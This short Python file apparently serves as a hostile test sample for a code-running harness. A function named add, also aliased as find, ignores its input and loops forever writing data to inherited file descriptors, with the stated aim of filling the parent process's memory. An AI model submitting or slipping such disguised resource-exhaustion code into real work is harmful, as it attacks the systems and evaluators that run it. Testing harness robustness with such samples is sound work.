# Tries to fill the parent's memory with a line that has no end.
# claim: protocol

import os


def add(numbers):
    while True:
        for fd in range(3, 8):
            try:
                os.write(fd, b"7" * 65536)
            except OSError:
                continue


find = add
